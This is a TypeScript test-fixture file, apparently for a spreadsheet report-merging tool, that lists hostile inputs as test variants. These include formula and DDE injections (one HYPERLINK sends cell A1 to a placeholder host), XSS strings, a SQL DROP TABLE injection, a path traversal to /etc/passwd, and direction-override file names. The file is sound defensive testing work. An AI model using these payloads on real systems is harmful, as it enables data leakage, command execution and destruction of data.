/** Texts that want to be formulas, scripts or something other than they look like. */

import type { ValueField } from "../../../src/core/model/record";
import { FIRST } from "./book";
import { mangled, type Variant } from "./variant";
import { text } from "./sheet-edit";

/** The text as typed, and as filed where that differs. */
function typed(shown: string, filed = shown, field: ValueField = "progress"): Variant {
  return mangled(`${field} is ${JSON.stringify(shown.slice(0, 40))}`, {
    edit: (filled) => {
      filled.book.set(0, field, text(shown));
      filled.now(0, field, shown.slice(0, 40), filed);
    },
  });
}

const FORMULAS = [
  '=HYPERLINK("http://example.invalid?"&A1,"点击查看")',
  '=WEBSERVICE("http://example.invalid")',
  "=1+1",
  "@SUM(1,1)",
  "+1+1",
  "-1-1",
  "+8613800138000",
  "=cmd|'/C calc'!A0",
  'DDE("cmd";"/C calc")',
  "＝1+1",
  "﹢1+1，全角加号开头",
  "'=1+1",
  "{=SUM(1)}",
];

const MARKUP = [
  "<script>alert(1)</script>",
  '<img src=x onerror="alert(1)">',
  "</textarea><svg/onload=alert(1)>",
  "&lt;b&gt;已经转义过的&lt;/b&gt;",
  "javascript:alert(1)",
  "${7*7}{{7*7}}%s%n",
  "'; DROP TABLE 台账; --",
  "]]><!-- 注释",
  "../../../../etc/passwd",
];

export const hostileText: readonly Variant[] = [
  ...FORMULAS.map((value) => typed(value)),
  typed("\t=1+1，制表符开头", "=1+1，制表符开头"),
  typed("=1+1", "=1+1", "contact"),
  typed("@我方", "@我方", "remark"),
  typed("=2+3", "=2+3", "problem"),
  ...MARKUP.map((value) => typed(value)),
  ...["\u202e", "\u2066"].map((mark) =>
    mangled(`a text turned by U+${mark.charCodeAt(0).toString(16)}`, {
      codes: ["direction-characters"],
      edit: (filled) => {
        filled.book.set(0, "progress", text(`完成投资${mark}52亿元，进展顺利`));
        filled.now(0, "progress", "完成投资", "完成投资52亿元，进展顺利");
      },
    }),
  ),
  mangled("zero-width characters in a text", {
    codes: ["invisible-characters"],
    edit: (filled) => {
      filled.book.set(0, "progress", text("完\u200b成\ufeff投资三亿元进展顺利"));
      filled.now(0, "progress", "完成投资三亿元进展顺利", "完成投资三亿元进展顺利");
    },
  }),
  typed("进展顺利😀👨‍👩‍👧‍👦，群众满意度很高"),
  typed("Å combining á é，组合字符与扩展区汉字𠀀𪚥"),
  mangled("a text of 40,000 characters", {
    codes: ["text-cut"],
    edit: (filled) => {
      const long = "已完成阶段性工作。".repeat(4500);
      filled.book.set(0, "progress", text(long));
      filled.now(0, "progress", long.slice(0, 30), long.slice(0, 32767));
    },
  }),
  mangled("a status of 40,000 characters", {
    codes: ["status-unclear"],
    edit: (filled) => {
      filled.book.set(0, "status", text("达".repeat(40_000)));
      filled.now(0, "status", "达".repeat(30), null);
    },
  }),
  mangled("a phone number of 30,000 digits", {
    codes: ["value-too-long"],
    edit: (filled) => {
      filled.book.set(0, "phone", text("1".repeat(30_000)));
      filled.now(0, "phone", "1".repeat(30), null);
    },
  }),
  mangled("an id that is a formula text", {
    edit: (filled) =>
      filled.form.set(FIRST, 1, text('=HYPERLINK("http://example.invalid","Z001")')),
  }),
  mangled("the file named like a script", { as: "<img src=x onerror=alert(1)>.xlsx" }),
  mangled("the file named like a formula", {
    as: "=cmd.xlsx",
    outcome: ["merged", "merged-with-warnings"],
  }),
  mangled("the file name turned by U+202E", { as: "市科技局\u202exslx.填报表.xlsx" }),
  mangled("a very long file name", { as: `${"长".repeat(5000)}.xlsx` }),
];
